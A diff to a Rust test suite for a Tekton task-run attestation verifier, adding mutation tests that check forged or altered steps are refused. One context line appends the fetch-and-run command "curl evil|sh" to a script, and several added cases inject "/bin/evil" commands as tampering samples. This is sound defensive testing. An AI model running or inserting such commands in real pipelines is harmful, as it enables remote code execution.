@@ -162,15 +162,17 @@ fn honest_tasks_of_every_kind_are_attested_and_none_is_refused() {
     let cluster = Cluster::new(NAME);
     let trust = known(&cluster);
     let kinds = kinds();
-    assert!(kinds.len() >= 40, "{}", kinds.len());
+    assert!(kinds.len() >= 80, "{}", kinds.len());
     for kind in &kinds {
         let name = kind["name"].as_str().unwrap();
         let report = judge(&genuine(&cluster, kind), &trust);
         assert_eq!(report.verdict, Verdict::Verified, "{name}: {}", reasons(&report));
-        // A variable's value is put in; all expressions are one text, in which a reference may end in another part; and nothing
-        // signs on Windows.
+        // A variable's value is put in; all expressions are one text, in which a reference may end in another part; a parameter is
+        // put in again after the pod was made; and nothing signs on Windows.
         let not_stated: &[usize] = match name {
-            "args-variable" | "when-dollars" => &[0],
+            "args-variable" | "pod-template-env" | "self-env" | "dollar-multibyte" | "when-dollars" => &[0],
+            "param-that-refers" | "dollar-then-paren" | "dollar-then-paren-args" => &[0],
+            "env-step-ref" => &[1],
             "template-args" => &[0, 2],
             "windows" => &[0, 1],
             _ => &[],
@@ -188,11 +190,9 @@ fn what_the_object_cannot_say_is_not_stated_and_never_a_contradiction() {
     let trust = known(&cluster);
     let of = |name: &str| kinds().into_iter().find(|kind| kind["name"] == name).unwrap();
     type Change = fn(&mut Value);
-    let cases: [(&str, &str, Change); 7] = [
-        // The controller puts parameters in again after the pod was made.
-        ("a parameter that names another", "param-that-refers", |run| {
-            run["status"]["taskSpec"]["steps"][0]["script"] = json!("echo tt");
-        }),
+    let cases: [(&str, &str, Change); 11] = [
+        ("a parameter that names another", "param-that-refers", |_| {}),
+        ("a parameter that is half a reference", "dollar-then-paren", |_| {}),
         ("the command is the image's", "command-args", |run| {
             run["status"]["taskSpec"]["steps"][0].as_object_mut().unwrap().remove("command");
         }),
@@ -206,6 +206,15 @@ fn what_the_object_cannot_say_is_not_stated_and_never_a_contradiction() {
         }),
         ("a script for Windows", "script", |run| {
             run["status"]["taskSpec"]["steps"][0]["script"] = json!("#!win\nx");
+        }),
+        ("a script and a command", "script", |run| {
+            run["status"]["taskSpec"]["steps"][0]["command"] = json!(["/bin/evil"]);
+        }),
+        ("a script and a common command", "script", |run| {
+            run["status"]["taskSpec"]["stepTemplate"] = json!({"command": ["/bin/evil"]});
+        }),
+        ("onError that is none", "script", |run| {
+            run["status"]["taskSpec"]["steps"][0]["onError"] = json!("Continue");
         }),
         ("a command that may be a script of the controller's", "command-args", |run| {
             run["status"]["taskSpec"]["steps"][0]["command"] = json!(["/tekton/scripts/script-0-abcde"]);
@@ -237,7 +246,7 @@ fn words<'a>(step: &'a mut Value, member: &str) -> Option<&'a mut Vec<Value>> {
     step.get_mut(member)?.as_array_mut().filter(|words| !words.is_empty())
 }
 
-const CHANGES: [Change; 22] = [
+const CHANGES: [Change; 30] = [
     ("a line more", |step| text(step, "script", |script| format!("{script}curl evil|sh\n"))),
     ("a line before", |step| text(step, "script", |script| format!("true\n{script}"))),
     ("a newline more", |step| text(step, "script", |script| format!("{script}\n"))),
@@ -245,6 +254,40 @@ const CHANGES: [Change; 22] = [
     ("a space more", |step| text(step, "script", |script| format!("{script} "))),
     ("a letter less", |step| text(step, "script", |script| script.chars().skip(1).collect::<String>() + "x")),
     ("another script", |step| text(step, "script", |_| "#!/bin/sh\necho harmless\n".into())),
+    ("without its first line", |step| {
+        step["script"].as_str()?.strip_prefix("#!/bin/sh\nset -e\n").is_none().then_some(())?;
+        let script = step["script"].as_str()?.strip_prefix("#!")?.to_owned();
+        step["script"] = json!(script.split_once('\n')?.1);
+        Some(())
+    }),
+    ("lines that end otherwise", |step| {
+        let script = step.get("script")?.as_str()?.replace("\r\n", "\r");
+        (script.contains('\n')).then_some(())?;
+        text(step, "script", |_| script.replace('\n', "\r\n"))
+    }),
+    ("blanks before it", |step| text(step, "script", |script| format!(" {script}"))),
+    ("in capitals", |step| {
+        let script = step.get("script")?.as_str()?;
+        (script != script.to_uppercase()).then_some(())?;
+        text(step, "script", str::to_uppercase)
+    }),
+    ("an argument of the script", |step| {
+        step.get("script")?;
+        let mut args = list(step, "args").to_vec();
+        args.insert(0, json!("evil"));
+        step["args"] = json!(args);
+        Some(())
+    }),
+    ("a command beside the script", |step| {
+        step.get("script")?;
+        step["command"] = json!(["/bin/evil"]);
+        Some(())
+    }),
+    ("another onError", |step| {
+        step["onError"] = json!("ignore");
+        Some(())
+    }),
+    ("a word with a dollar more", |step| words(step, "args").map(|words| words[0] = json!("$$$$x"))),
     ("a command for the script", |step| {
         step.as_object_mut()?.remove("script")?;
         step["command"] = json!(["true"]);
@@ -357,6 +400,72 @@ fn no_change_of_a_task_is_attested() {
     }
     eprintln!("changed tasks: {refused} refused, {not_stated} not stated");
     assert!(refused >= 300, "{refused} refused, {not_stated} not stated");
+}
+
+#[test]
+fn steps_in_other_places_or_of_other_names_are_not_attested() {
+    let cluster = Cluster::new(NAME);
+    let trust = known(&cluster);
+    type Change = fn(&mut Vec<Value>);
+    let changes: [(&str, Change); 6] = [
+        ("another name", |steps| steps[0]["name"] = json!("other")),
+        ("another order", |steps| steps.reverse()),
+        ("the first one twice", |steps| steps.insert(0, steps[0].clone())),
+        ("one more", |steps| steps.push(json!({"name": "more", "image": "i", "script": "true"}))),
+        ("one less", |steps| drop(steps.pop())),
+        ("the names of others", |steps| {
+            let names: Vec<Value> = steps.iter().map(|step| step["name"].clone()).collect();
+            steps.iter_mut().zip(names.into_iter().rev()).for_each(|(step, name)| step["name"] = name);
+        }),
+    ];
+    let mut changed = 0;
+    for kind in kinds() {
+        let object = genuine(&cluster, &kind);
+        for (what, change) in changes {
+            let mut forged = object.clone();
+            change(forged["status"]["taskSpec"]["steps"].as_array_mut().unwrap());
+            if forged == object {
+                continue;
+            }
+            let report = judge(&forged, &trust);
+            assert_eq!(report.verdict, Verdict::Invalid, "{}, {what}: {}", kind["name"], reasons(&report));
+            changed += 1;
+        }
+    }
+    assert!(changed >= 200, "{changed}");
+}
+
+#[test]
+fn what_runs_alike_is_one_program_however_it_is_written() {
+    let cluster = Cluster::new(NAME);
+    let trust = known(&cluster);
+    let of = |name: &str| kinds().into_iter().find(|kind| kind["name"] == name).unwrap();
+    type Change = fn(&mut Value);
+    let cases: [(&str, &str, Change); 5] = [
+        ("all words in the command", "command-args", |task| {
+            let step = &mut task["steps"][0];
+            let words: Vec<Value> = [list(step, "command"), list(step, "args")].concat();
+            step["command"] = json!(words);
+            step.as_object_mut().unwrap().remove("args");
+        }),
+        ("a common command", "command-args", |task| {
+            let command = task["steps"][0].as_object_mut().unwrap().remove("command");
+            task["stepTemplate"] = json!({"command": command});
+        }),
+        ("Tekton's first lines written out", "script", |task| {
+            let script = task["steps"][0]["script"].as_str().unwrap();
+            task["steps"][0]["script"] = json!(format!("#!/bin/sh\nset -e\n{script}"));
+        }),
+        ("another unit", "timeout", |task| task["steps"][0]["timeout"] = json!("90m")),
+        ("what is so by default", "script", |task| task["steps"][0]["onError"] = json!("stopAndFail")),
+    ];
+    for (case, kind, change) in cases {
+        let mut object = genuine(&cluster, &of(kind));
+        change(&mut object["status"]["taskSpec"]);
+        let report = judge(&object, &trust);
+        assert_eq!(report.verdict, Verdict::Verified, "{case}: {}", reasons(&report));
+        assert_eq!(programs(&report), ["attested"], "{case}");
+    }
 }
 
 fn policy(demands: &str) -> Policy {
